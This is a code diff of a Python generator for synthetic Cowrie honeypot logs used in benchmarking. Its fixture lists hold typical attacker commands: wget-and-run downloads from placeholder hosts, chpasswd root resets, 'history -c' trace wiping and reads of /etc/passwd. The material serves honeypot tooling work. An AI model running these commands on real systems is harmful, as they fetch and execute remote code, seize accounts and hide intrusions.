@@ -1,8 +1,8 @@
 """What attackers' sessions look like in Cowrie's log: a pool of them, rendered once, replayed for ever.
 
-A session is rendered as JSON lines with one control character where something changes from one replay to the next:
-JSON never holds a bare control character, so that filling them in is plain text replacement. The proportions are
-those of real logs (see benchmarks/README.md), the data is invented.
+A session is rendered as JSON lines with one control character where something changes from one replay to the
+next: JSON never holds a bare control character, so that filling them in is plain text replacement. The
+proportions are those of real logs (see benchmarks/README.md), the data is invented.
 """
 
 from __future__ import annotations
@@ -19,22 +19,33 @@ FILES = ("\x05", "\x06", "\x07", "\x0e", "\x0f", "\x10")
 EMPTY_HASH = ""
 DST_IP = "203.0.113.5"
 
-_KEX = "curve25519-sha256 ecdh-sha2-nistp256 ecdh-sha2-nistp384 ecdh-sha2-nistp521 \
-diffie-hellman-group-exchange-sha256 diffie-hellman-group16-sha512 diffie-hellman-group18-sha512 \
-diffie-hellman-group14-sha256 diffie-hellman-group14-sha1 mlkem768x25519-sha256 \
-sntrup761x25519-sha512@openssh.com kex-strict-c-v00@openssh.com ext-info-c".split()
-_KEYS = "ssh-ed25519 ssh-rsa rsa-sha2-256 rsa-sha2-512 ecdsa-sha2-nistp256 ecdsa-sha2-nistp384 \
-ecdsa-sha2-nistp521 ssh-ed25519-cert-v01@openssh.com rsa-sha2-256-cert-v01@openssh.com \
-rsa-sha2-512-cert-v01@openssh.com ecdsa-sha2-nistp256-cert-v01@openssh.com \
-ecdsa-sha2-nistp384-cert-v01@openssh.com ecdsa-sha2-nistp521-cert-v01@openssh.com \
-sk-ssh-ed25519@openssh.com sk-ecdsa-sha2-nistp256@openssh.com webauthn-sk-ecdsa-sha2-nistp256@openssh.com".split()
-_CIPHERS = (
-    "chacha20-poly1305@openssh.com aes128-gcm@openssh.com aes256-gcm@openssh.com aes128-ctr aes192-ctr \
-aes256-ctr aes128-cbc aes192-cbc aes256-cbc 3des-cbc".split()
+
+def _words(text: str) -> list[str]:
+    return text.split()
+
+
+_KEX = _words(
+    """curve25519-sha256 ecdh-sha2-nistp256 ecdh-sha2-nistp384 ecdh-sha2-nistp521
+    diffie-hellman-group-exchange-sha256 diffie-hellman-group16-sha512 diffie-hellman-group18-sha512
+    diffie-hellman-group14-sha256 diffie-hellman-group14-sha1 mlkem768x25519-sha256
+    sntrup761x25519-sha512@openssh.com kex-strict-c-v00@openssh.com ext-info-c"""
 )
-_MACS = "hmac-sha2-256-etm@openssh.com hmac-sha2-512-etm@openssh.com umac-128-etm@openssh.com \
-umac-64-etm@openssh.com hmac-sha1-etm@openssh.com umac-128@openssh.com umac-64@openssh.com hmac-sha2-256 \
-hmac-sha2-512 hmac-sha1 hmac-md5 hmac-sha1-96".split()
+_KEYS = _words(
+    """ssh-ed25519 ssh-rsa rsa-sha2-256 rsa-sha2-512 ecdsa-sha2-nistp256 ecdsa-sha2-nistp384
+    ecdsa-sha2-nistp521 ssh-ed25519-cert-v01@openssh.com rsa-sha2-256-cert-v01@openssh.com
+    rsa-sha2-512-cert-v01@openssh.com ecdsa-sha2-nistp256-cert-v01@openssh.com
+    ecdsa-sha2-nistp384-cert-v01@openssh.com ecdsa-sha2-nistp521-cert-v01@openssh.com
+    sk-ssh-ed25519@openssh.com sk-ecdsa-sha2-nistp256@openssh.com"""
+)
+_CIPHERS = _words(
+    """chacha20-poly1305@openssh.com aes128-gcm@openssh.com aes256-gcm@openssh.com aes128-ctr aes192-ctr
+    aes256-ctr aes128-cbc aes192-cbc aes256-cbc 3des-cbc"""
+)
+_MACS = _words(
+    """hmac-sha2-256-etm@openssh.com hmac-sha2-512-etm@openssh.com umac-128-etm@openssh.com
+    umac-64-etm@openssh.com hmac-sha1-etm@openssh.com umac-128@openssh.com umac-64@openssh.com hmac-sha2-256
+    hmac-sha2-512 hmac-sha1 hmac-md5 hmac-sha1-96"""
+)
 _CLIENTS = (
     "SSH-2.0-Go",
     "SSH-2.0-libssh2_1.10.0",
@@ -44,25 +55,18 @@ _CLIENTS = (
 )
 _USERS = ("root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "pi", "git", "нет", "nproc", "")
 _PASSWORDS = (
-    "123456", "admin", "password", "root", "P@ssw0rd", "1qaz2wsx", 'a"b\\c', "\x1b[31m", "пароль", "密码", "\x00\x1f",
-    "toor", "raspberry", "3245gs5662d34", "\U0001f600", "b'\\xff\\xfe'", "",
-)  # fmt: skip
-_COMMANDS = (
-    "uname -a", "whoami", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3}'",
-    "ls -lh $(which ls)", "crontab -l", "w", "uname -m", "top", "lscpu | grep Model", "nproc", "df -h | head -n 2",
-    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /", "chmod +x x86; ./x86; rm -rf x86", "enable", "system",
-    "shell", "sh", "/bin/busybox TSUNAMI", "echo -e '\\x6F\\x6B'", "rm -rf /tmp/.x; history -c", "exit",
-    'echo "root:Zx81kk"|chpasswd|bash', "cat /etc/passwd", "\x7fELF\x01\x02", "lspci | grep -i vga",
-)  # fmt: skip
-_PATHS = (
-    "/root/.ssh/authorized_keys",
-    "/tmp/x86",
-    "/tmp/.x",
-    "/var/run/.p",
-    "/dev/shm/m",
-    "/root/redtail.arm7",
-    "",
+    *("123456", "admin", "password", "root", "P@ssw0rd", "1qaz2wsx", "toor", "raspberry", "3245gs5662d34", ""),
+    *('a"b\\c', "\x1b[31m", "пароль", "密码", "\x00\x1f", "\U0001f600", "b'\\xff\\xfe'", "\u202e\ufeff"),
 )
+_COMMANDS = (
+    *("uname -a", "whoami", "w", "uname -m", "top", "nproc", "enable", "system", "shell", "sh", "exit"),
+    *("crontab -l", "lscpu | grep Model", "df -h | head -n 2", "ls -lh $(which ls)", "cat /etc/passwd"),
+    *("cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3}'"),
+    *("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /", "chmod +x x86; ./x86; rm -rf x86"),
+    *("/bin/busybox TSUNAMI", "echo -e '\\x6F\\x6B'", "rm -rf /tmp/.x; history -c", "\x7fELF\x11\x12"),
+    *('echo "root:Zx81kk"|chpasswd|bash', "lspci | grep -i vga"),
+)
+_PATHS = ("/root/.ssh/authorized_keys", "/var/run/.p", "/root/redtail.arm7", "/opt/.x", "")
 _NAMES = ("redtail.arm7", "redtail.x86_64", "sshd", "setup.sh", "clean.sh", "m68k", "bins.sh", "x.py")
 
 
@@ -89,17 +93,17 @@ class _Session:
         self.now_s = 0.0
         self.files = 0
 
-    def event(self, name: str, message: object, delay_s: float, **fields: object) -> None:
+    def event(self, eventid: str, message: object, delay_s: float, /, **fields: object) -> None:
         """Add one event; `delay_s` is the mean of the seconds since the one before."""
         tail = {"sensor": self.sensor, "timestamp": TIMESTAMP}
         if self.old:
-            event = {"eventid": f"cowrie.{name}", **fields, "message": message, **tail}
+            event = {"eventid": f"cowrie.{eventid}", **fields, "message": message, **tail}
             event |= {"src_ip": SRC_IP, "session": SESSION}
         else:
             port = 2223 if self.telnet else 2222
             event = {"session": SESSION, "protocol": "telnet" if self.telnet else "ssh", "src_ip": SRC_IP}
             event |= {"src_port": SRC_PORT, "dst_ip": DST_IP, "dst_port": port, **fields}
-            event |= {"eventid": f"cowrie.{name}", "sensor": self.sensor, "uuid": self.uuid}
+            event |= {"eventid": f"cowrie.{eventid}", "sensor": self.sensor, "uuid": self.uuid}
             event |= {"timestamp": TIMESTAMP, "message": message}
         self.lines.append(_render(event))
         self.offsets_s.append(self.now_s)
@@ -107,9 +111,7 @@ class _Session:
 
     def connect(self) -> None:
         here = f"{SRC_IP}:{SRC_PORT} ({DST_IP}:2222) [session: {SESSION}]"
-        old = (
-            {"src_port": SRC_PORT, "dst_ip": DST_IP, "dst_port": 2222, "protocol": "ssh"} if self.old else {}
-        )
+        old = {"src_port": SRC_PORT, "dst_ip": DST_IP, "dst_port": 2222, "protocol": "ssh"} if self.old else {}
         self.event("session.connect", f"New connection: {here}", 0.2, **old)
 
     def close(self) -> None:
@@ -127,12 +129,10 @@ class _Session:
         self.event("client.version", f"Remote SSH version: {client}", 0.1, version=client)
         if rng.random() < 0.02:
             return
-        scale = 1.0 if not self.old and rng.random() < 0.15 else 0.45
+        scale = 1.0 if not self.old and rng.random() < 0.26 else 0.45
         algorithms = [_some(rng, names, scale) for names in (_KEX, _KEYS, _CIPHERS, _MACS)]
-        if (
-            scale == 1.0 and rng.random() < 0.9
-        ):  # a client that offers everything, and its vendor's own names too
-            algorithms = [[*names, *(f"{n}-2@vendor.example" for n in names[:9])] for names in algorithms]
+        if scale == 1.0 and rng.random() < 0.9:  # a client that offers everything, and its vendor's own names too
+            algorithms = [[*names, *(f"{n}-2@vendor.example" for n in names[:4])] for names in algorithms]
         kex, keys, ciphers, macs = algorithms
         offered = ";".join(",".join(names) for names in (kex, ciphers, macs, ["none", "zlib"]))
         hassh = hashlib.md5(offered.encode(), usedforsecurity=False).hexdigest()
@@ -157,6 +157,24 @@ class _Session:
         if rng.random() < 0.016:
             self.event("command.failed", f"Command not found: {command}", 0.1, input=command)
 
+    def terminal(self) -> None:
+        """Add what a client says that asks for a terminal; a telnet client says it in its own way."""
+        if self.telnet:
+            self.event("telnet.option", "Telnet option: NAWS 80x24", 0.1, option="NAWS", value="80x24")
+            return
+        self.event("client.size", "Terminal Size: 80 24", 0.05, width=80, height=24)
+        if self.rng.random() < 0.5:
+            self.event("client.var", "request_env: LANG=C.UTF-8", 0.05, name="LANG", value="C.UTF-8")
+
+    def offer_key(self) -> None:
+        """Add an attempt to log in by public key."""
+        digits = f"{self.rng.getrandbits(128):032x}"
+        fingerprint = ":".join(digits[n : n + 2] for n in range(0, 32, 2))
+        key = f"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB{self.rng.getrandbits(1500):x}"
+        message = f"public key attempt for user root of type ssh-rsa with fingerprint {fingerprint}"
+        fields = {"username": "root", "fingerprint": fingerprint, "key": key, "type": "ssh-rsa"}
+        self.event("client.fingerprint", message, 0.5, **fields)
+
     def channel(self, *, commands: int, files: int, logged: bool = True) -> None:
         """Add one exec channel or shell: parameters, commands, the files they leave, the tty log."""
         self.event("session.params", [] if self.old else "", 0.05, arch="linux-x64-lsb")
@@ -167,9 +185,7 @@ class _Session:
         if logged:
             shasum = f"{self.rng.getrandbits(256):064x}"
             path, seconds = f"var/lib/cowrie/tty/{shasum}", self.rng.random() * 4
-            spent: dict[str, object] = (
-                {"duration": seconds} if self.old else {"duration_ms": int(seconds * 1e3)}
-            )
+            spent: dict[str, object] = {"duration": seconds} if self.old else {"duration_ms": int(seconds * 1e3)}
             self.event(
                 "log.closed", f"Closing TTY Log: {path} after {int(seconds)} seconds", 0.2, ttylog=path,
                 size=self.rng.randrange(5000), shasum=shasum, duplicate=self.rng.random() < 0.6, **spent,
@@ -198,9 +214,7 @@ class _Session:
             message = f'SFTP Uploaded file "{name}" to {outfile}'
             self.event("session.file_upload", message, 0.5, filename=name, outfile=outfile, shasum=shasum)
         elif rng.random() < 0.034:
-            self.event(
-                "session.file_download", f"Downloaded URL ({url})", 0.5, url=url, outfile="", shasum=""
-            )
+            self.event("session.file_download", f"Downloaded URL ({url})", 0.5, url=url, outfile="", shasum="")
         elif rng.random() < 0.27:
             message = f"Downloaded URL ({url}) with SHA-256 {shasum} to {outfile}"
             self.event("session.file_download", message, 0.5, url=url, outfile=outfile, shasum=shasum)
@@ -241,9 +255,13 @@ def _make_script(rng: Random, sensor: str) -> Script:
     elif kind > 0.42:
         for _ in range(rng.choice((0, 0, 0, 0, 0, 0, 1, 2))):
             session.login(success=False)
+        if rng.random() < 0.01:
+            session.offer_key()
         session.login(success=True)
         _act(rng, session)
     session.close()
+    if kind > 0.995:
+        session.event("session.file_download.failed", "Attempt failed", 1, url="tftp://198.18.0.7/x", late=True)
     return session.script()
 
 
@@ -253,10 +271,11 @@ def _act(rng: Random, session: _Session) -> None:
     if kind < 0.04:
         session.forward()
     elif kind < 0.20:
-        session.channel(commands=rng.randint(3, 14), files=rng.random() < 0.25)
+        session.terminal()
+        session.channel(commands=rng.randint(3, 14), files=int(rng.random() < 0.25))
     elif kind < 0.65:
         for _ in range(rng.randint(1, 4)):
-            session.channel(commands=1, files=rng.random() < 0.15)
+            session.channel(commands=1, files=int(rng.random() < 0.15))
     elif kind < 0.72:
         session.channel(commands=1, files=rng.choice((1, 2, 3, 6, 11)), logged=False)
     else:
@@ -273,9 +292,7 @@ def _long_command(rng: Random) -> str:
     pieces = [f"wget http://198.18.{rng.randrange(256)}.7/{rng.choice(_NAMES)} -O /tmp/x; chmod 777 /tmp/x; "]
     chars = min(int(rng.paretovariate(1.1) * 90), 5000)
     while sum(map(len, pieces)) < chars:
-        pieces.append(
-            f"echo -ne '\\x{rng.randrange(256):02x}' >> /tmp/.{rng.randrange(9)}; /tmp/.x {rng.random()}; "
-        )
+        pieces.append(f"echo -ne '\\x{rng.randrange(256):02x}' >> /tmp/.{rng.randrange(9)}; /tmp/.x {rng.random()}; ")
     return "".join(pieces)[: max(chars, 60)]
 
 
